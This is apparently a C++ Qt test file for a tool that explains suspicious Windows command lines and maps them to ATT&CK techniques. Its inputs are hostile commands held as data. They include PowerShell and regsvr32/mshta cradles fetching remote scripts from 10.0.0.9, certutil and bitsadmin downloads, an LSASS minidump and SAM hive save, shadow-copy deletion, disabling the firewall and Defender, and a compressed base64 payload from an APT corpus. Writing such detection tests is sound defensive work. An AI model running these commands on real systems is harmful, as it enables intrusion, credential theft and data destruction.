// SPDX-License-Identifier: GPL-3.0-or-later
// Command explainers on the demo's three stories, on real command lines from
// the shared corpus (each names its EVTX file), and on hostile input.

#include <QtTest>

#include <filesystem>

#include "core/explain/explanation_json.h"
#include "explain_test_support.h"

using namespace hitome::core;
using hitome::test::builtinKb;
using hitome::test::explain;
using hitome::test::findingOf;
using hitome::test::hasTechnique;
using hitome::test::param;
using hitome::test::utf16Base64;

namespace {

// The knowledge base is part of the repository: missing entries are a failure.
#define REQUIRE_KB() QVERIFY2(builtinKb().size() >= 80, "resources/knowledge did not load")

}  // namespace

class TestExplain : public QObject {
    Q_OBJECT
private slots:
    // Story 1 of the demo: a one-off task starting a backdoor from the Desktop.
    void schtasksOnceBackdoor() {
        const auto ex = explain("schtasks.exe /create /SC ONCE /TN Troj /TR C:\\Users\\vmadmin\\Desktop\\WinATP-Intro-Backdoor.exe /ST 13:36 /F");
        QCOMPARE(ex.binary.canonicalName, std::string("schtasks.exe"));
        QCOMPARE(ex.entity("task_name"), std::string("Troj"));
        QCOMPARE(ex.entity("program"), std::string("C:\\Users\\vmadmin\\Desktop\\WinATP-Intro-Backdoor.exe"));
        QCOMPARE(ex.entity("start_time"), std::string("13:36"));
        QCOMPARE(ex.entity("schedule"), std::string("ONCE"));
        QCOMPARE(param(findingOf(ex, "program.suspect"), "program"), std::string("C:\\Users\\vmadmin\\Desktop\\WinATP-Intro-Backdoor.exe"));
        QVERIFY(findingOf(ex, "program.user_writable"));
        QCOMPARE(param(findingOf(ex, "schtasks.run_once"), "time"), std::string("13:36"));
        QVERIFY(findingOf(ex, "schtasks.force"));
        QVERIFY(!findingOf(ex, "schtasks.recurring"));
        QVERIFY(!findingOf(ex, "schtasks.system_persistence"));
        QVERIFY(hasTechnique(ex, "T1053.005"));
        QVERIFY(findingOf(ex, "schtasks.run_once")->text.en.find("not persistence") != std::string::npos);
        QVERIFY(!findingOf(ex, "schtasks.run_once")->text.ja.empty());
        QCOMPARE(ex.nested.size(), size_t{1});
        QCOMPARE(ex.nested[0].binary.canonicalName, std::string("winatp-intro-backdoor.exe"));
        QCOMPARE(ex.arguments.size(), size_t{11});
        if (builtinKb().find("schtasks.exe")) {
            QVERIFY(findingOf(ex, "binary.known"));
            QVERIFY(!ex.arguments[1].meaning.en.empty());   // /create from the KB switch table
        }
    }

    // Story 2: SYSTEM daily task whose program is an encoded-PowerShell registry cradle.
    void schtasksSystemDailyRegistryCradle() {
        const auto ex = explain("schtasks /Create /F /RU SYSTEM /SC DAILY /ST 10:51 /TN Updater /TR \"powershell -NonI -W hidden -c "
                                "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network).debug)))\"");
        QVERIFY(findingOf(ex, "schtasks.system_persistence"));
        QCOMPARE(findingOf(ex, "schtasks.system_persistence")->severity, Severity::High);
        QCOMPARE(ex.entity("run_as_user"), std::string("SYSTEM"));
        QCOMPARE(ex.nested.size(), size_t{1});
        const Explanation& ps = ex.nested[0];
        QCOMPARE(ps.role, std::string("scheduled program"));
        QCOMPARE(ps.binary.stem, std::string("powershell"));
        QVERIFY(findingOf(ps, "ps.iex"));
        QVERIFY(findingOf(ps, "ps.hidden_window"));
        QVERIFY(findingOf(ps, "ps.from_base64"));
        QCOMPARE(param(findingOf(ps, "ps.registry_payload"), "key"), std::string("HKLM:\\Software\\Microsoft\\Network"));
        QCOMPARE(ps.entity("registry_key"), std::string("HKLM:\\Software\\Microsoft\\Network"));
        QVERIFY(hasTechnique(ex, "T1053.005"));
        QVERIFY(hasTechnique(ex, "T1059.001"));
    }

    void encodedPowerShellIsDecoded_data() {
        QTest::addColumn<QString>("flag");
        for (const char* f : {"-enc", "-e", "-ec", "-EncodedCommand", "-ENCODEDC", "/enc", "--EncodedCommand", "\xE2\x80\x93" "enc"})
            QTest::newRow(f) << QString::fromUtf8(f);
    }
    void encodedPowerShellIsDecoded() {
        QFETCH(QString, flag);
        const std::string script = "$k=(Get-ItemProperty HKCU:\\Software\\Classes\\evil).x; IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')";
        const auto ex = explain("powershell.exe -nop -w hidden " + flag.toStdString() + " " + utf16Base64(script));
        QCOMPARE(ex.decoded.size(), size_t{1});
        QCOMPARE(ex.decoded[0].kind, std::string("base64+utf16le"));
        QCOMPARE(ex.decoded[0].text, script);
        QVERIFY(findingOf(ex, "ps.encoded"));
        QVERIFY(findingOf(ex, "ps.download_cradle"));
        QCOMPARE(param(findingOf(ex, "ps.download"), "url"), std::string("http://10.0.0.9/a.ps1"));
        QCOMPARE(ex.entity("url"), std::string("http://10.0.0.9/a.ps1"));
        QCOMPARE(ex.entity("registry_key"), std::string("HKCU:\\Software\\Classes\\evil"));
        QVERIFY(hasTechnique(ex, "T1027"));
    }

    void invalidEncodedCommandIsReported() {
        const auto ex = explain("powershell -enc @@@@not*base64");
        QVERIFY(ex.decoded.empty());
        QVERIFY(findingOf(ex, "decode.failed"));
    }

    // Story 3: an attacker's interactive shell.
    void attackerShellRecon_data() {
        QTest::addColumn<QString>("line");
        for (const char* l : {"tasklist", "ver", "ipconfig /all", "systeminfo", "net time", "netstat -ano", "whoami /all",
                              "net view", "net user /domain", "dir"})
            QTest::newRow(l) << QString::fromUtf8(l);
    }
    void attackerShellRecon() {
        REQUIRE_KB();
        QFETCH(QString, line);
        const auto ex = explain(line.toStdString());
        QVERIFY2(!ex.kbName.empty(), "the knowledge base knows every recon command");
        QVERIFY(!ex.allTechniques().empty());
        QVERIFY(!ex.binarySummary.en.empty() && !ex.binarySummary.ja.empty());
    }

    void attackerShellNetDiscovery() {
        QVERIFY(findingOf(explain("net user /domain"), "net.discovery"));
        QVERIFY(hasTechnique(explain("net user /domain"), "T1087.002"));
        QVERIFY(hasTechnique(explain("net time"), "T1124"));
        QVERIFY(hasTechnique(explain("net view"), "T1018"));
    }

    void atRemoteToTempProgram() {
        const auto ex = explain("at \\\\10.0.0.5 12:00 cmd /c C:\\Windows\\Temp\\mal.exe");
        QCOMPARE(param(findingOf(ex, "at.remote"), "host"), std::string("10.0.0.5"));
        QCOMPARE(ex.entity("start_time"), std::string("12:00"));
        QCOMPARE(param(findingOf(ex, "program.suspect"), "program"), std::string("C:\\Windows\\Temp\\mal.exe"));
        QVERIFY(findingOf(ex, "program.user_writable"));
        QVERIFY(hasTechnique(ex, "T1053.002"));
    }

    void wmicRemoteProcessMasksPassword() {
        const auto ex = explain("wmic /node:10.0.0.6 /user:\"corp\\admin\" /password:\"P@ss\" process call create \"cmd /c whoami > C:\\Windows\\Temp\\o.txt\"");
        QCOMPARE(ex.entity("remote_host"), std::string("10.0.0.6"));
        QCOMPARE(ex.entity("user"), std::string("corp\\admin"));
        QCOMPARE(ex.entity("password"), std::string("(given)"));
        QVERIFY(findingOf(ex, "wmic.remote"));
        QVERIFY(findingOf(ex, "wmic.process_create"));
        QVERIFY(findingOf(ex, "credentials.given"));
        QVERIFY(hasTechnique(ex, "T1047"));
        const std::string json = explanationToJson(ex, Lang::En).dump();
        QVERIFY2(json.find("P@ss") == std::string::npos, "the password must never be shown");
        QVERIFY(explanationToText(ex, Lang::Ja).find("P@ss") == std::string::npos);
        QCOMPARE(ex.nested.size(), size_t{1});
        QVERIFY(findingOf(ex.nested[0], "cmd.redirect") || findingOf(ex, "cmd.redirect"));
    }

    void netUserAddMasksPassword() {
        // EVTX-to-MITRE-Attack/TA0003-Persistence/T1136-Create account/ID4688-User creation via commandline.evtx
        const auto ex = explain("net  user toto3 @#(*kjh@(@Jd /add");
        QCOMPARE(param(findingOf(ex, "net.user_add"), "user"), std::string("toto3"));
        QVERIFY(explanationToJson(ex, Lang::En).dump().find("kjh") == std::string::npos);
        QVERIFY(hasTechnique(ex, "T1136.001"));
        const auto grp = explain("net localgroup administrators toto3 /add");
        QVERIFY(findingOf(grp, "net.admin_group_add"));
        const auto use = explain("net use \\\\fs03vuln\\c$ Secr3t /user:offsec\\hack1");
        QCOMPARE(use.entity("remote_host"), std::string("fs03vuln"));
        QVERIFY(explanationToText(use, Lang::En).find("Secr3t") == std::string::npos);
    }

    void corpusCommandLines_data() {
        QTest::addColumn<QString>("line");
        QTest::addColumn<QString>("finding");
        QTest::addColumn<QString>("technique");
        // TA0002-Execution/T1053.005-Scheduled Task/ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx
        QTest::newRow("schtasks minute SYSTEM") << "\"C:\\Windows\\system32\\schtasks.exe\" /create /sc minute /mo 1 /tn eviltask /tr C:\\tools\\shell.cmd /ru SYSTEM"
                                                << "schtasks.system_persistence" << "T1053.005";
        // TA0002-Execution/T1053.005-Scheduled Task/ID4688-Scheduled task creation.evtx
        QTest::newRow("schtasks remote daily") << "schtasks  /create /s fs02 /tn tasks_test_hacker2 /tr myapp.exe /sc daily /mo 10" << "schtasks.remote" << "T1053.005";
        // TA0002-Execution/T1053.005-Scheduled Task/ID4688-Interactive shell using AT schedule task.evtx
        QTest::newRow("at interactive") << "at  13:20 /interactive cmd" << "at.interactive" << "T1053.002";
        // TA0003-Persistence/T1197-BITS jobs/ID4688-BITS transfer initiated.evtx
        QTest::newRow("bitsadmin") << "bitsadmin  /transfer hackingarticles https://www.ma-neobanque.com/wp-content/uploads/2020/11/carte-max-premium.jpg c:\\ignite.png"
                                   << "bitsadmin.transfer" << "T1197";
        // TA0005-Defense Evasion/T1140-Deobfuscate-Decode Files or Information/ID4688-Certutil download.evtx
        QTest::newRow("certutil") << "certutil  -urlcache -split -f https://github.com/mdecrevoisier/EVTX-to-MITRE-Attack/blob/master/x.evtx virus.exe"
                                  << "certutil.download" << "T1105";
        // TA0011-Command and Control/T1572-Protocol tunneling/ID4688-netsh RDP port forwarding abuse.evtx
        QTest::newRow("netsh portproxy") << "netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=48333 connectaddress=127.0.0.1 connectport=80"
                                         << "netsh.portproxy" << "T1090";
        // TA0005-Defense Evasion/T1562.001-Impair Defenses-Disable or Modify tool/ID4688-Defender service deactivation attempt.evtx
        QTest::newRow("sc disable sense") << "sc  config sense start= disabled" << "sc.stop_security" << "T1685";
        // TA0040-Impact/T1490-Inhibit System Recovery/ID4688-Delete VSS backup (WMI).evtx
        QTest::newRow("wmic shadowcopy") << "wmic  shadowcopy delete /nointeractive" << "wmic.shadow_delete" << "T1490";
        // TA0006-Credential Access/T1003-Credential dumping/ID1-LSASS dump with LSASSY (SYSMON).evtx
        QTest::newRow("comsvcs minidump") << "\"C:\\Windows\\System32\\rundll32.exe\"  C:\\Windows\\System32\\comsvcs.dll MiniDump 512 \\Windows\\Temp\\76nivOxA.dmp full"
                                          << "rundll32.minidump" << "T1003.001";
        QTest::newRow("reg save sam") << "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save" << "reg.hive_save" << "T1003.002";
        QTest::newRow("reg run key") << "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe /f"
                                     << "reg.run_key" << "T1547.001";
        QTest::newRow("sc create") << "sc \\\\10.0.0.7 create evilsvc binPath= \"C:\\Windows\\Temp\\svc.exe\" start= auto" << "sc.create" << "T1543.003";
        QTest::newRow("regsvr32 squiblydoo") << "regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll" << "regsvr32.squiblydoo" << "T1218.010";
        QTest::newRow("mshta url") << "mshta http://10.0.0.9/a.hta" << "lolbin.remote_script" << "T1218.005";
        QTest::newRow("netsh firewall off") << "netsh advfirewall set allprofiles state off" << "netsh.firewall_off" << "T1686.003";
        QTest::newRow("vssadmin") << "vssadmin delete shadows /all /quiet" << "vss.delete" << "T1490";
        QTest::newRow("cmd chain") << "cmd.exe /c whoami & net user /domain" << "cmd.chain" << "T1087.002";
    }
    void corpusCommandLines() {
        QFETCH(QString, line);
        QFETCH(QString, finding);
        QFETCH(QString, technique);
        const auto ex = explain(line.toStdString());
        QVERIFY2(findingOf(ex, finding.toStdString()), qPrintable(QString::fromStdString(explanationToText(ex, Lang::En))));
        QVERIFY2(hasTechnique(ex, technique.toStdString()), qPrintable(technique));
    }

    // EVTX_full_APT_attack_steps/ID5140-5145,4688,4697-Encrypted payload deployed with service over SMB (GLOBAL).evtx
    void corpusGzipPayloadIsPeeled() {
        HITOME_REQUIRE_SHARED();
        const auto path = hitome::test::corpusDir() / "evtx/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps";
        QVERIFY(std::filesystem::exists(path));
        const std::string b64 =
            "H4sIAPU7gGACA7VW+2/aSBD+OZHyP1gVErZKsHlcEyJVurUdHk0gBof3odNiL/Y2ay+xFwjp9X+/WbDbVE3v2pPO4rGPmdmZb76d8WoTe4LyWBG1Zah8Ojs9cXCCI0UtPH5YlZQCtWhLOzmB9ULwUXmvqHO0Xts8wjReXF1ZmyQhsTjOyy0iUJqSaMkoSVVN+UsZhyQh53fLj8QTyiel8Ge5xfgSs0xsb2EvJMo5in25d8s9LH0pu2tGhVr844+iNj+vLMrXjxvMUrXo7lNBorLPWFFTPmvywPv9mqjFLvUSnvKVKI9pXKuWh3GKV6QH1rakS0TI/bSoQQzwSYjYJLEC0Uj146ZahKGTcA/5fkLStFhS5tLwfLH4XZ1npw42saARKXdiQRK+dkmypR5Jy20c+4wMyGoBWq5IaBwsNA3EtvyBqIV4w1hJ+RUzao/scsx+Vkl9qQRSjki0EiTxuyi73N8wctQrvuKmTLsGT556QO3z2enZ6SrnCd42ti95AqOT+WFMwDfV4Sk9yL1XjJLShXOw4MkepoX7ZEO0xRdklUJqL0s/Vq/ksiD53DD2EazNR5z6C9DJkll4vJSrP6akTVY0JvY+xhH1ctapryFMVowcIiznYj3wSS1mG8S3CSMBFhI1mejv1K4jKr7omhvKfJIgD7KUgleQQO1bZ46JUIuduEsiQOg4B+YVVsB1kktn/N7np8s5CBUthtO0pDgbuGxeSXEJZsQvKShOabaFNoIfhsWv7nY3TFAPpyI3t9COKGanWTxORbLxIGUQ+b27Jh7FTAJRUtrUJ+bepUF+avFVGCzMGFwBsLSFNMCKDN8VkggJOCiTrpVdIjrRmpEIRA5XvslwABc84/mBODggfvFb93IeH0krYcjjf+Ec5NZlXJSUEU0E1A0J6YE//+nwFxUD3LASkuVAzS/G3NwLSedC0AieJRkzSA4AJAKCbyY8MnFK3tWP1UF9o99RB8EztdvurCPcLnztTsxopTPsri4dYfCI1jq861mp02peIroLdt5lD3n+B580XJDrU6NziXzrtt8OJ6FnGveoDWvBdNgR0w5q34ceMxy7rbvT1KC79ljaOtrw6vX2xEC1Wv2uZjwAblNaCR6Q34vo7ukWxlAG727NTmoaHXb9wRosx9XmbMzaer0ZrsY8dd9NbV3XGz62u3uETO7XuvtJZcDv215k1mOuN6z6A7pGyIqvR02T30zNBDn6CAdrboX+hVUNLIRaF5TM+sOm2e83TTRsfXy0G3qgN8YTHJrjUZXO1pNBCPPmrt2/0Y16xyfPfLYD4Foc4WAAMoFV9cIVyNhvkfm2x9MqfjA5MkGmOXtErXC6bjoM9u+HVY5GrDfB6Ha2b+p6ZerUUdvg41aA+iCOA7OPUbq1n229MvK5P/6tN13powm70G2r74QTGbO+juTvrm3feLPKzru7qJvGoxXRiC2rvt4YXprx7iZwtoHfH18Mnnr7JZw71PXRG8kmoFPBC8d+5QVRflTbuzhJQ8yAQFC28/va5Ekzq8QOp1JDVQ+d+4EkMWHQ+qA55sxHjHFPtoFDzYYWdGwMsk8NYVirvjrSlC+C2tcGkS9dXc3AS7hKku7lWxIHIiwZTzXDgHJvPNUNCPPnI7P4eq8eTJVkuzhikxtnB+OavGSFVMTx/4tZdrVD+PP/DbOva/+w+1M4GqUs5u/Wv134JVR/OfYxpgIkXShOjBz74usQZAx58d4gEwP5X2WPfOm724jzHrxOnJ3+DTnHlctdCgAA";
        const std::string line = "powershell.exe  -nop -w hidden -noni -c \"if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};"
                                 "$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-noni -nop -w hidden -c &([scriptblock]::create((New-Object System.IO.StreamReader("
                                 "New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::FromBase64String(''" + b64 +
                                 "''))),[System.IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))';$s.UseShellExecute=$false;$p=[System.Diagnostics.Process]::Start($s);\"";
        const auto ex = explain(line);
        QVERIFY(findingOf(ex, "ps.compressed"));
        bool sawGzip = false;
        for (const auto& l : ex.decoded) sawGzip = sawGzip || (l.kind == "gzip" && l.text.size() > 100);
        QVERIFY2(sawGzip, qPrintable(QString::fromStdString(explanationToText(ex, Lang::En))));
        QVERIFY(findingOf(ex, "ps.hidden_window"));
    }

    void masqueradingBinaryIsFlagged() {
        REQUIRE_KB();
        const auto ex = explain("C:\\Users\\Public\\schtasks.exe /query");
        QVERIFY(findingOf(ex, "binary.masquerade"));
        QVERIFY(!findingOf(explain("C:\\Windows\\SysWOW64\\schtasks.exe /query"), "binary.masquerade"));
        QVERIFY(!findingOf(explain("C:\\Windows\\System32\\schtasks.exe /query"), "binary.masquerade"));
    }

    void worksWithoutKnowledgeBase() {
        const auto ex = CommandExplainer(nullptr).explain("schtasks /create /tn X /tr calc.exe /sc onlogon /ru system");
        QVERIFY(findingOf(ex, "schtasks.system_persistence"));
        QVERIFY(ex.kbName.empty());
    }

    void jsonHasTheDocumentedShape() {
        const auto j = explanationToJson(explain("schtasks /create /tn T /tr C:\\x.exe /sc once /st 10:00"), Lang::Ja);
        for (const char* key : {"binary", "arguments", "entities", "findings", "techniques", "decoded", "nested"}) QVERIFY2(j.contains(key), key);
        QVERIFY(j["entities"].is_object());
        QCOMPARE(j["entities"]["task_name"].get<std::string>(), std::string("T"));
        QVERIFY(j["arguments"][1].contains("text") && j["arguments"][1].contains("meaning"));
        QVERIFY(j["findings"][0].contains("severity") && j["findings"][0].contains("text"));
        QCOMPARE(j["techniques"][0].get<std::string>(), std::string("T1053.005"));
        if (builtinKb().find("schtasks")) {   // the KB's "what to check next", in the requested language
            QVERIFY(j["next_steps"].is_array() && !j["next_steps"].empty());
            QCOMPARE(j["next_steps"][0].get<std::string>(), builtinKb().find("schtasks")->nextSteps.ja.front());
            QVERIFY(explanationToText(explain("schtasks /query"), Lang::En).find("What to check next:") != std::string::npos);
        }
    }

    void hostileCharactersAreShownNotInterpreted() {
        const std::string line = std::string("schtasks /create /tn \"evil\xE2\x80\xAEgpj.exe\" /tr \"C:\\a\x1b[2J\\b.exe\" /sc once /st 1\0:00", 79);
        const auto ex = explain(line);
        const std::string text = explanationToText(ex, Lang::En);
        const std::string json = explanationToJson(ex, Lang::En).dump();
        for (const std::string& out : {text, json}) {
            QVERIFY(out.find("\xE2\x80\xAE") == std::string::npos);
            QVERIFY(out.find('\x1b') == std::string::npos);
            QVERIFY(out.find('\0') == std::string::npos);
            QVERIFY(out.find("U+202E") != std::string::npos);
        }
        const std::string invalid = "cmd /c echo \xff\xfe\xc0\xaf & whoami";
        QVERIFY(!explanationToJson(explain(invalid), Lang::En).dump().empty());   // dump() throws on invalid UTF-8
    }

    void hugeAndDeepInputIsBounded() {
        std::string huge = "powershell -c \"";
        while (huge.size() < (1 << 20)) huge += "'a'+'b'+[char]65+\"x\" & ^|";
        explain(huge);
        std::string many = "net user";
        while (many.size() < (1 << 20)) many += " a";
        explain(many);
        std::string chain = "cmd /c ";
        for (int i = 0; i < 20000; ++i) chain += "whoami & ";
        explain(chain);
        std::string deep = "whoami";
        for (int i = 0; i < 200; ++i) deep = "cmd /c " + deep;
        explain(deep);
        std::string deepTask = "calc.exe";
        for (int i = 0; i < 50; ++i) deepTask = "schtasks /create /tn t /tr \"" + deepTask + "\"";
        explain(deepTask.substr(0, 1 << 20));
        // No timed assertion: a super-linear scan of these megabytes would not
        // finish within ctest's timeout, which is what catches it.
    }
};

QTEST_APPLESS_MAIN(TestExplain)
#include "test_explain.moc"
